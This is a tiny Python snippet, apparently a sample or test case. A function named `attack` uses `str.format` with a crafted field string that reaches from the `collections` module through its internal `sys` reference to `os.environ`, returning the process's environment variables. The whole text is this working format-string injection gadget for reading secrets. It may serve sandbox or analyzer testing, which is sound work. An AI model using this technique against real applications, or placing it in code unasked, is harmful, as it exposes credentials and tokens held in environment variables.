# Calls `format` through its class, with the text made while it runs.
import collections


def attack(text):
    words = "{0." + "_sys.modules[os]" + ".environ}"
    return str.format(words, collections)
